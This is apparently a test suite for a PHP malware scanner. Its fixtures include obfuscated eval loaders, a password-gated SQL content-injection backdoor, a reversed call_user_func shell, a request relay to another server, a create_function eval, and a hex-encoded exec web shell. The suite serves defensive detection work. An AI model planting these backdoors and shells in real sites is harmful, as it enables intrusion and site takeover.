/**
 * Encoder traces and planted-backdoor gates, on fixtures written for these tests.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

test('identifiers of random bytes plus eval are an encoded script; UTF-8 identifiers are text', () => {
  const rnd = (i: number): string => String.fromCharCode(0x80 + ((i * 37) % 40), 0xff - i, 0x81 + i, 0xc0 + ((i * 7) % 3));
  const vars = Array.from({ length: 12 }, (_, i) => `$${rnd(i)}=${i};`).join('');
  const enc = `<?php ${vars} eval($${rnd(1)}($${rnd(2)}));`;
  assert.ok(reasons(findingOf('a.php', enc)).includes('identifiers made of random bytes (encoder output)'));
  const utf8 = Buffer.from(`<?php ${Array.from({ length: 12 }, (_, i) => `$größe${i} = ${i};`).join('')}`, 'utf8').toString('latin1');
  assert.equal(findingOf('b.php', utf8), undefined);
});

test('variable names written as escaped strings are encoder output', () => {
  const enc = `<?php ${Array.from({ length: 6 }, (_, i) => `\${"\\x47L\\x4f\\x42\\x41L\\x53"}["k${i}"]="v";`).join('')} eval($x);`;
  assert.ok(reasons(findingOf('a.php', enc)).includes('variable names written as escaped string literals (encoder output)'));
});

test('a hard-coded secret gate in front of raw SQL writes of request data', () => {
  const bd = `<?php\nif (isset($_REQUEST['password']) && $_REQUEST['password'] == '0123456789abcdef0123456789abcdef') {\n  $wpdb->query('UPDATE posts SET content = "' . $_REQUEST['data'] . '" WHERE id = 1');\n}\n`;
  const f = findingOf('functions.php', bd);
  // the hard-coded secret plus request text written into the site's rows is the content backdoor
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('behind the password gate, request data is written into the site database by raw SQL (content injection)'));
  const app = `<?php\nif (hash_equals($secret, $_REQUEST['token'])) {\n  $wpdb->query('UPDATE posts SET views = views + 1');\n}\n`;
  assert.equal(findingOf('ok.php', app), undefined);
});

test('a shuffled base64-alphabet table and a long punctuation-only literal are encoder output; a banner ruler is not', () => {
  const alpha = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  const table = [...alpha].map((c, i) => `'${c}'=>'${alpha[(i * 7 + 3) % alpha.length]}'`).join(', ');
  const sub = `<?php $t = Array(${table}); eval(dec($blob, $t));`;
  assert.ok(reasons(findingOf('a.php', sub)).some((r) => r.startsWith('character substitution table over the base64 alphabet')));
  const marks = '!#$%&()*+,-./:;<=>?@[]^_{|}~';
  const punct = `<?php for($o=0,$e='${Array.from({ length: 240 }, (_, i) => marks[(i * 5) % marks.length]).join('')}';$o<9;$o++){} eval($d);`;
  assert.ok(reasons(findingOf('b.php', punct)).includes('long string literal made only of punctuation (encoded payload)'));
  const banner = `<?php echo '${'='.repeat(300)}';`;
  assert.equal(findingOf('c.php', banner), undefined);
});

test('variable names made of look-alike characters are encoder output', () => {
  const enc = `<?php $OOO000000=urldecode('%66');$OOO0000O0=$OOO000000{4};$OOO000O00=$OOO000000{0};$O0O000O00=$OOO000000{1};$O0O000O0O=$O0O000O00;eval($OOO0000O0('x'));`;
  assert.ok(reasons(findingOf('a.php', enc)).includes('variable names made of look-alike characters (O/0, l/I/1; encoder output)'));
  const app = `<?php $OOOOOO = 1; $IIIIII = 2; $llllll = 3; echo $OOOOOO + $IIIIII + $llllll;`;
  assert.equal(findingOf('b.php', app), undefined);
});

test('source stored backwards; a relay forwarding the whole request to another server', () => {
  const rev = `;tixe ;)]'a'[TSOP_$ . 'noitca'(cnuf_resu_llac )]'a'[TSOP_$(ytpme! fi\n`;
  assert.ok(reasons(findingOf('r.php', `<?php /* ${rev} */ ?>` + rev)).includes('PHP source stored backwards (a payload to be reversed and run)'));
  const relay = `<?php\n$target = "http://10.0.0.5/s.php";\n$data = $_POST;\n$data = str_replace("base64_decode(", "x(", $data);\n$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query($data))));\necho file_get_contents($target, false, $ctx);\n`;
  assert.ok(reasons(findingOf('c.php', relay)).includes('forwards the whole posted request to another server and returns its answer (relay)'));
  const api = `<?php\n$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query(array('q' => $_POST['q'])))));\necho file_get_contents("https://api.example.com/search", false, $ctx);\n`;
  assert.ok(!reasons(findingOf('d.php', api)).includes('forwards the whole posted request to another server and returns its answer (relay)'));
});

test('create_function body spelled from a literal character table folds and is analyzed', () => {
  const src =
    "<?php\n$a9 = array('6','n',')','_','g','c','4','f','v','$','s','o','(','t','r','b',';','l','e','z','d','a','i');\n$b = create_function('$'.'v', $a9[18].$a9[8].$a9[21].$a9[17].$a9[12].$a9[9].$a9[8].$a9[2].$a9[16]);\n$b($_POST['x']);\n";
  const f = findingOf('t.php', src);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('create_function() runs code spelled from constant pieces'));
});

test('php: function names kept as hex strings and decoded into a call table', () => {
  const hex = (s: string): string => Buffer.from(s).toString('hex');
  const names = ['fopen', 'fwrite', 'fclose', 'unlink', 'chmod', 'scandir', 'is_dir', 'basename', 'exec'];
  const shell = `<?php\n$t = [${names.map((n) => `"${hex(n)}"`).join(', ')}];\nforeach ($t as $i => $h) { $GLOBALS[$i] = hex2bin($h); }\necho $GLOBALS[8]($_GET['c']);\n`;
  assert.ok(findingOf('t.php', shell)!.evidence.some((e) => e.reason === 'function names stored hex-encoded (9, including exec) for calls through a table'));
  // colours and hashes in hex decode to no identifiers
  const app = `<?php\n$palette = ["ff0000", "00ff00", "0000ff", "ffff00", "00ffff", "ff00ff", "c0c0c0", "808080", "800000"];\n$h = ["5d41402abc4b2a76b9719d911017c592", "7d793037a0760186574b0282f2f435e7"];\necho count($palette) + count($h);\n`;
  assert.equal(findingOf('c.php', app), undefined);
});
